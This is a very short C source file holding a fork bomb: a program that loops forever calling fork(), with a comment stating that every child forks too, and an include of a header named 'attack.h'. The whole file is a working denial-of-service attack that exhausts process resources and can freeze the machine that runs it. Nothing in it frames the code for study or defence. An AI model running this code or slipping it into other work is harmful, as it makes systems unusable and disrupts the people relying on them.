/* Forks for ever, and so do all that it forks. */
#include "attack.h"

int main(void) {
    for (;;) fork();
}
